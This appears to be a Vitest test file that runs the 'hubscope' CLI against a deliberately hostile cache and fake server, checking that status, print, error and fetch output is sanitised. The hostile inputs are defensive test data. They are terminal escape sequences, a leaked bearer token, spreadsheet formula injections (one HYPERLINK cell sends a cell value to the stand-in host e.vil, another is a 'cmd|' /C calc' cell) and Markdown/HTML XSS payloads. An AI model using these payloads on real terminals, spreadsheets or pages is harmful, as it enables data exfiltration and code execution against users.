// Issue 7 items 11 and 12 through the real CLI, on a cache written by the cache code with a
// hostile revision and origin path (C1 CSI and OSC, OSC 0, ESC[2J), hostile model ids and an
// error text echoing a token: no control sequence reaches the terminal from `status`, `status
// --format json`, any `print`, the error line or `fetch --events json`; our own colours do;
// CSV cells that a spreadsheet would run are neutralised (numbers untouched, --csv-raw keeps
// them); Markdown renders the ids as literal text.
import { execFile } from 'node:child_process';
import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { beforeAll, describe, expect, it } from 'vitest';
import { builtCli } from '../fetch/cli-build.js';
import { tempDir } from '../fetch/helpers.js';
import { cliEnv, hubEnv, runCli, type CliRun } from '../fetch/run-cli.js';
import { FakeHub } from '../fake-hub/server.js';
import { HOSTILE_IDS, HOSTILE_REVISION, TOKEN, writeHostileCache } from './hostile-cache.js';

/** Anything a terminal acts on: C0 controls but the line break, DEL, C1 controls. */
const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;

let cli: string;
let dir: string;
const run = (args: string[]): Promise<CliRun> => runCli(cli, [...args, '--cache', dir]);

beforeAll(async () => {
  [cli, dir] = await Promise.all([builtCli(), tempDir('hubscope-hostile-')]);
  await writeHostileCache(dir);
}, 180_000);

/** Every string inside a parsed JSON value, keys included. */
function strings(value: unknown, out: string[] = []): string[] {
  if (typeof value === 'string') out.push(value);
  else if (Array.isArray(value)) for (const v of value) strings(v, out);
  else if (value !== null && typeof value === 'object') {
    for (const [k, v] of Object.entries(value)) {
      out.push(k);
      strings(v, out);
    }
  }
  return out;
}

function expectSafe(text: string): void {
  expect(text).not.toMatch(CONTROL);
  expect(text).not.toContain(TOKEN);
}

function expectSafeJson(text: string): unknown {
  expectSafe(text);
  // no control character hidden behind a JSON escape either (JSON.stringify escapes C0 as \u00XX)
  expect(text).not.toMatch(/\\u00[01][0-9a-f]|\\u007f|\\u00[89][0-9a-f]/i);
  const value = JSON.parse(text) as unknown;
  for (const s of strings(value)) expect(s).not.toMatch(CONTROL);
  return value;
}

describe('the fixture is hostile', () => {
  it('holds the raw revision and origin (what older code stored)', async () => {
    const { CacheStore } = await import('../../source/cache/store.js');
    const store = await CacheStore.open(dir);
    expect(store.leaderboard.revision).toBe(HOSTILE_REVISION);
    expect(store.leaderboard.origin).toMatch(CONTROL);
  });
});

describe('status', () => {
  it('text: no control sequence, the path and revision readable, the token redacted', async () => {
    const out = await run(['status']);
    expect(out.code).toBe(0);
    expectSafe(out.stdout);
    expect(out.stdout).toContain('imported from /tmp/evil.csv @ abcdef');
    expect(out.stdout).toContain('Bearer [redacted]');
  });
  it('json: every string and key made safe', async () => {
    const out = await run(['status', '--format', 'json']);
    expect(out.code).toBe(0);
    const report = expectSafeJson(out.stdout) as { leaderboard: { revision: string; origin: string }; errors: Array<{ message: string }> };
    expect(report.leaderboard.revision).toBe('abcdef');
    expect(report.leaderboard.origin).toBe('file:/tmp/evil.csv');
    expect(report.errors[0]!.message).toBe('HTTP 500: echo Authorization: Bearer [redacted] and [redacted]');
  });
});

describe('print', () => {
  it.each(['overview', 'leaderboard', 'all'])('%s --format json: every string made safe', async (view) => {
    const out = await run(['print', view, '--format', 'json', '--include-flagged', '--show-merges']);
    expect(out.code).toBe(0);
    const value = expectSafeJson(out.stdout) as Record<string, unknown>;
    const source = (view === 'all' ? (value.overview as Record<string, unknown>).source : value.source) as { revision: string };
    expect(source.revision).toBe('abcdef');
  });

  it.each(['text', 'markdown', 'csv'])('all --format %s: no control sequence', async (format) => {
    const out = await run(['print', 'all', '--format', format, '--include-flagged', '--show-merges']);
    expect(out.code).toBe(0);
    expectSafe(out.stdout);
    expect(out.stderr).toBe('');
  });

  it('text on a terminal keeps our colour codes and nothing else', async () => {
    // a pseudo-terminal (script(1)) so that print colours its output
    const command = `${process.execPath} ${cli} print leaderboard --width 100 --include-flagged --show-merges --cache ${dir}`;
    const { stdout } = await promisify(execFile)('script', ['-q', '-e', '-c', command, '/dev/null'], { env: cliEnv({ TERM: 'xterm-256color' }) });
    const sgr = /\u001b\[[0-9;]*m/g;
    expect(stdout).toMatch(sgr); // colours survived
    expect(stdout.replace(sgr, '').replace(/\r/g, '')).not.toMatch(CONTROL); // nothing else did
    expect(stdout).toContain('abcdef');
  });

  it('csv: cells a spreadsheet would run are neutralised; numbers stay numbers', async () => {
    const out = await run(['print', 'leaderboard', '--format', 'csv', '--include-flagged', '--show-merges']);
    expect(out.code).toBe(0);
    const lines = out.stdout.trimEnd().split('\n');
    const row = (needle: string) => lines.find((line) => line.includes(needle)) ?? '';
    expect(row('HYPERLINK')).toMatch(/^\d+,"'=HYPERLINK\(""http:\/\/e\.vil\/\?""&A1,""click""\)",/);
    expect(row('cmd|')).toMatch(/^\d+,"'\+cmd\|' \/C calc'!A0",/);
    expect(row('-2+3')).toMatch(/^\d+,"'-2\+3",/);
    expect(row('@SUM')).toMatch(/^\d+,"'@SUM\(1\+1\)",/);
    expect(row('"\'=1+1"')).not.toBe(''); // the license "=1+1"
    // acme/clean-7b: ARC is -1.5, written as the number it is
    const header = lines[0]!.split(',');
    const clean = row('acme/clean-7b').split(',');
    expect(clean[header.indexOf('ARC')]).toBe('-1.5');
    // no cell of any line starts a formula unquoted
    for (const line of lines.slice(1)) for (const cell of line.split(',')) expect(cell).not.toMatch(/^[=+@]/);
  });

  it('--csv-raw writes the cells as they are; it goes with --format csv only', async () => {
    const out = await run(['print', 'leaderboard', '--format', 'csv', '--csv-raw', '--include-flagged', '--show-merges']);
    expect(out.code).toBe(0);
    expect(out.stdout).toContain(',-2+3,');
    expect(out.stdout).toContain(',@SUM(1+1),');
    expect(out.stdout).toContain(',"=HYPERLINK(""http://e.vil/?""&A1,""click"")",');
    const wrong = await run(['print', 'leaderboard', '--csv-raw']);
    expect(wrong.code).toBe(2);
    expect(wrong.stderr).toBe('hubscope: --csv-raw goes with --format csv\n');
  });

  it('markdown: hostile ids render as their literal text (no HTML, link or image)', async () => {
    const out = await run(['print', 'leaderboard', '--format', 'markdown', '--include-flagged', '--show-merges', '--top', '50']);
    expect(out.code).toBe(0);
    const md = out.stdout;
    expect(md).not.toMatch(/<img|<script|<\/script/i);
    expect(md).not.toMatch(/(?<!\\)\[[^\]\n]*(?<!\\)\]\(/); // no [text](url) with both brackets bare
    expect(md).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(md).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(md).toContain('\\[x\\](javascript:alert(1))');
    expect(md).toContain('\\!\\[x\\](https://e.vil/t.png)');
    expect(md).toContain('pipe\\|id');
    // every row of every table has its header's number of cells: no pipe got through
    const cells = (line: string) => line.replace(/\\\|/g, '').split('|').length;
    let header = 0;
    for (const line of md.split('\n')) {
      if (!line.startsWith('|')) header = 0;
      else if (header === 0) header = cells(line);
      else expect(cells(line), line).toBe(header);
    }
  });
});

describe('the error line', () => {
  it('a command line with escape sequences: one safe line, exit 2', async () => {
    const out = await runCli(cli, [`x\u001b]0;retitled\u0007\u001b[2J\u009b31m`]);
    expect(out.code).toBe(2);
    expectSafe(out.stderr);
    expect(out.stderr).toBe('hubscope: unknown command "x" (try: npx hubscope --help)\n');
  });
  it('a corrupt cache under a hostile path: one safe line, exit 1', async () => {
    const bad = join(await tempDir('hubscope-hostile-'), `c\u001b]0;t\u0007\u001b[2J`);
    await mkdir(bad, { recursive: true });
    await writeFile(join(bad, 'leaderboard.json'), '{ not json');
    const out = await runCli(cli, ['print', 'overview', '--cache', bad]);
    expect(out.code).toBe(1);
    expectSafe(out.stderr);
    expect(out.stderr.trimEnd().split('\n')).toHaveLength(1);
  });
});

describe('fetch --events json', () => {
  it('every event line is safe whatever the server sends', async () => {
    // C1 CSI and OSC in X-Revision (Node's server refuses ESC in a header; C1 goes through as
    // latin-1, and the client reads it back as U+009B, U+009D)
    const hub = await FakeHub.start({ revision: 'abc\u009b2J\u009d0;pwned\u009cdef' });
    try {
      hub.addFault({
        route: 'model',
        times: Infinity,
        action: { kind: 'status', status: 400, body: { error: `not here\u001b[2J\u009b31m\u001b]0;pwned\u0007 Bearer ${TOKEN}` } },
      });
      const cache = await tempDir('hubscope-hostile-fetch-');
      const out = await runCli(cli, ['fetch', '--cache', cache, '--events', 'json', '--only', 'leaderboard,info'], hubEnv(hub.url));
      expect(out.code).toBe(0);
      const lines = out.stdout.trimEnd().split('\n');
      expect(lines.length).toBeGreaterThan(1);
      for (const line of lines) expectSafeJson(line);
      expect(out.stdout).toContain('not here'); // the server's text is there, made safe
    } finally {
      await hub.close();
    }
  }, 60_000);
});
